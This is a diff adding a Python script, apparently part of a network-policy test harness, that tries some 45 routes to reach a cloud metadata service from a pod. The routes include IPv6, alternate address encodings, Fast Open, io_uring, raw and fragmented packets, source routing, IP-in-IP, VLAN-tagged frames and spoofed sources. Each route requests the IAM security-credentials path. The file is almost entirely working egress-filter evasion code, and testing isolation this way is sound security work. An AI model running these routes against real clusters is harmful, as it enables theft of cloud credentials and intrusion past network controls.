@@ -1,0 +1,245 @@
+"""Tries to get a packet to the metadata service by one route, as a pod's process would.
+
+    attack.py ROUTE [INTERFACE [NEXT_HOP_MAC]]
+
+Whether anything got there is for the packet log of the stand-in to say. Exit code 0: what the route is made of was
+sent, or refused with EPERM, which is as good; printed: what came back. Exit code 3: this kernel has no such thing.
+"""
+
+import ctypes
+import errno
+import mmap
+import select
+import socket
+import struct
+import sys
+
+M4, M6 = "169.254.169.254", "fd00:ec2::254"
+GET = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"
+PATIENCE = 0.3
+TCP, UDP, ICMP, ICMPV6, IPIP, MPTCP = 6, 17, 1, 58, 4, 262
+SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
+MSG_FASTOPEN = 0x20000000
+NODE = "10.8.0.1"
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def ipv4(payload, protocol, source, to=M4, options=b"", fragment=0):
+    header = struct.pack(
+        "!BBHHHBBH4s4s", 0x40 + 5 + len(options) // 4, 0, 20 + len(options) + len(payload), 7, fragment, 64, protocol,
+        0, socket.inet_aton(source), socket.inet_aton(to)) + options
+    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload
+
+
+def ipv6(payload, protocol, source, to=M6):
+    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
+    return struct.pack("!IHBB", 0x60000000, len(payload), protocol, 64) + addresses + payload
+
+
+def pseudo(source, to, protocol, length):
+    if ":" in to:
+        ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, to)
+        return ends + struct.pack("!IxxxB", length, protocol)
+    return socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, protocol, length)
+
+
+def syn(source, to=M4, port=80):
+    segment = struct.pack("!HHIIBBHHH", 33333, port, 1000, 0, 0x50, 2, 0xFFFF, 0, 0)
+    total = checksum(pseudo(source, to, TCP, len(segment)) + segment)
+    return segment[:16] + struct.pack("!H", total) + segment[18:]
+
+
+def family_of(address):
+    return socket.AF_INET6 if ":" in address else socket.AF_INET
+
+
+def own(to):
+    """This process's own address towards the uplink, of the family of M."""
+    probe = socket.socket(family_of(to), socket.SOCK_DGRAM)
+    probe.connect(("fd00:8::2" if ":" in to else "10.8.0.2", 9))
+    return probe.getsockname()[0]
+
+
+def converse(sock):
+    sock.settimeout(PATIENCE)
+    sock.sendall(GET)
+    print(sock.recv(4096))
+
+
+def tcp(to, port=80, protocol=0, device=None):
+    sock = socket.socket(family_of(to), socket.SOCK_STREAM, protocol)
+    if device:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode())
+    sock.settimeout(PATIENCE)
+    sock.connect((to, port))
+    converse(sock)
+
+
+def fastopen(to):
+    sock = socket.socket(family_of(to), socket.SOCK_STREAM)
+    sock.settimeout(PATIENCE)
+    sock.sendto(GET, MSG_FASTOPEN, (to, 80))
+    print(sock.recv(4096))
+
+
+def udp(to, port, connected):
+    sock = socket.socket(family_of(to), socket.SOCK_DGRAM)
+    if connected:
+        sock.connect((to, port))
+        sock.send(GET)
+    else:
+        sock.sendto(GET, (to, port))
+
+
+def ping(to, kind=socket.SOCK_RAW):
+    six = ":" in to
+    sock = socket.socket(socket.AF_INET6 if six else socket.AF_INET, kind, ICMPV6 if six else ICMP)
+    echo = struct.pack("!BBHHH", 128 if six else 8, 0, 0, 1, 1)
+    if not six:
+        echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
+    sock.sendto(echo, (to, 0))
+
+
+def raw(packet, to=M4):
+    """A packet with a header of our own making; the kernel routes it."""
+    sock = socket.socket(family_of(to), socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock.sendto(packet, (to, 0))
+
+
+def frame(packet, interface, mac, kind=0x0800, tags=(), bypass=False, said=None, cooked=False):
+    """A packet that no routing of this namespace sees."""
+    mac = bytes.fromhex(mac.replace(":", ""))
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM if cooked else socket.SOCK_RAW, 0)
+    if bypass:
+        sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
+    if cooked:
+        sock.sendto(packet, (interface, kind, 0, 0, mac))
+        return
+    sock.bind((interface, 0))
+    with open(f"/sys/class/net/{interface}/address") as file:
+        source = bytes.fromhex(file.read().strip().replace(":", ""))
+    tagged = b"".join(struct.pack("!HH", tag, number) for tag, number in tags)
+    data = mac + source + tagged + struct.pack("!H", kind) + packet
+    sock.sendto(data, (interface, kind if said is None else said))
+
+
+def io_uring_connect(to):
+    """IORING_OP_CONNECT, without a library (include/uapi/linux/io_uring.h)."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    params = bytearray(120)
+    ring = libc.syscall(425, 1, (ctypes.c_char * 120).from_buffer(params))
+    if ring < 0:
+        sys.exit(3)
+    entries, cq_entries = struct.unpack_from("II", params, 0)
+    _head, tail, mask, _count, _flags, _dropped, array = struct.unpack_from("7I", params, 40)
+    size = array + entries * 4
+    submissions = mmap.mmap(ring, max(size, 4096), offset=0)
+    requests = mmap.mmap(ring, entries * 64, offset=0x10000000)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", 80) + socket.inet_aton(to) + bytes(8)
+    buffer = ctypes.create_string_buffer(address, 16)
+    requests[0:64] = struct.pack("=BBHiQQ", 16, 0, 0, sock.fileno(), 16, ctypes.addressof(buffer)).ljust(64, b"\0")
+    submissions[array:array + 4] = struct.pack("I", 0)
+    at = struct.unpack_from("I", submissions, tail)[0]
+    submissions[tail:tail + 4] = struct.pack("I", at + 1)
+    # Submitted, not waited for: a connect that nobody answers takes minutes.
+    if libc.syscall(426, ring, 1, 0, 0, None, 0) != 1:
+        raise OSError(ctypes.get_errno(), "io_uring_enter")
+    _, writable, _ = select.select([], [sock], [], PATIENCE)
+    if writable and not sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+        converse(sock)
+
+
+def host_form(text):
+    """As curl and browsers read addresses: octal, decimal, hexadecimal."""
+    family, _, _, _, address = socket.getaddrinfo(text, 80, type=socket.SOCK_STREAM)[0]
+    sock = socket.socket(family, socket.SOCK_STREAM)
+    sock.settimeout(PATIENCE)
+    sock.connect(address)
+    converse(sock)
+
+
+def lsrr(kind):
+    """Loose (131) or strict (137) source route: to the uplink's router, which is to send it on to M."""
+    return struct.pack("!BBB4sB", kind, 7, 4, socket.inet_aton(M4), 0)
+
+
+def routes(interface, mac):
+    def v4(**options):
+        return ipv4(syn(own(M4)), TCP, own(M4), **options)
+
+    def sourced(source):
+        return lambda: frame(ipv4(syn(source), TCP, source), interface, mac)
+
+    return {
+        "tcp-v4": lambda: tcp(M4),
+        "tcp-v6": lambda: tcp(M6),
+        "tcp-v4-mapped": lambda: tcp("::ffff:" + M4),
+        "tcp-fastopen-v4": lambda: fastopen(M4),
+        "tcp-fastopen-v6": lambda: fastopen(M6),
+        "tcp-mptcp-v4": lambda: tcp(M4, protocol=MPTCP),
+        "tcp-mptcp-v6": lambda: tcp(M6, protocol=MPTCP),
+        "tcp-io-uring": lambda: io_uring_connect(M4),
+        "tcp-bound-to-device": lambda: tcp(M4, device=interface),
+        "tcp-port-8080": lambda: tcp(M4, port=8080),
+        "tcp-port-443-v6": lambda: tcp(M6, port=443),
+        "host-octal": lambda: host_form("0251.0376.0251.0376"),
+        "host-decimal": lambda: host_form("2852039166"),
+        "host-hexadecimal": lambda: host_form("0xa9fea9fe"),
+        "udp-v4": lambda: udp(M4, 80, False),
+        "udp-v6": lambda: udp(M6, 80, False),
+        "udp-connected-v4": lambda: udp(M4, 53, True),
+        "udp-connected-v6": lambda: udp(M6, 53, True),
+        "icmp-v4": lambda: ping(M4),
+        "icmp-v6": lambda: ping(M6),
+        "icmp-socket": lambda: ping(M4, socket.SOCK_DGRAM),
+        "raw-syn-v4": lambda: raw(v4()),
+        "raw-syn-v6": lambda: raw(ipv6(syn(own(M6), M6), TCP, own(M6)), M6),
+        "raw-protocol-v4": lambda: raw(ipv4(b"protocol", 253, own(M4))),
+        "raw-extension-header-v6": lambda: raw(ipv6(bytes([TCP, 0, 1, 4, 0, 0, 0, 0]) + syn(own(M6), M6), 0, own(M6)), M6),
+        "raw-options": lambda: raw(v4(options=b"\x07\x07\x04\0\0\0\0\0")),
+        "raw-source-route-loose": lambda: raw(v4(options=lsrr(131))),
+        "raw-source-route-strict": lambda: raw(v4(options=lsrr(137))),
+        "raw-fragment-first": lambda: raw(ipv4(syn(own(M4)) + bytes(4), TCP, own(M4), fragment=0x2000)),
+        "raw-fragment-later": lambda: raw(ipv4(bytes(24), TCP, own(M4), fragment=0x0003)),
+        "raw-ip-in-ip-to-m": lambda: raw(ipv4(v4(), IPIP, own(M4))),
+        "packet-syn-v4": lambda: frame(v4(), interface, mac),
+        "packet-syn-v6": lambda: frame(ipv6(syn(own(M6), M6), TCP, own(M6)), interface, mac, kind=0x86DD),
+        "packet-cooked": lambda: frame(v4(), interface, mac, cooked=True),
+        "packet-qdisc-bypass": lambda: frame(v4(), interface, mac, bypass=True),
+        "packet-says-other-protocol": lambda: frame(v4(), interface, mac, said=0x88B5),
+        "packet-udp": lambda: frame(ipv4(struct.pack("!HHHH", 9, 53, 8, 0), UDP, own(M4)), interface, mac),
+        "packet-fragment": lambda: frame(v4(fragment=0x2000), interface, mac),
+        "packet-vlan": lambda: frame(v4(), interface, mac, tags=[(0x8100, 5)]),
+        "packet-vlan-zero": lambda: frame(v4(), interface, mac, tags=[(0x8100, 0)]),
+        "packet-double-vlan": lambda: frame(v4(), interface, mac, tags=[(0x88A8, 5), (0x8100, 0)]),
+        "source-m": sourced(M4),
+        "source-loopback": sourced("127.0.0.1"),
+        "source-node": sourced(NODE),
+        "source-other": sourced("10.9.0.99"),
+        "ip-in-ip-to-node": lambda: raw(ipv4(v4(), IPIP, own(M4), to=NODE), NODE),
+    }
+
+
+def main():
+    route, interface, mac = (sys.argv[1:] + ["eth0", "ee:ee:ee:ee:ee:ee"][len(sys.argv) - 2:])[:3]
+    try:
+        routes(interface, mac)[route]()
+    except TimeoutError:
+        print("nothing came back")
+    except OSError as error:
+        if error.errno in (errno.EPROTONOSUPPORT, errno.EAFNOSUPPORT, errno.ENOSYS):
+            sys.exit(3)
+        print(error)
+
+
+if __name__ == "__main__":
+    main()
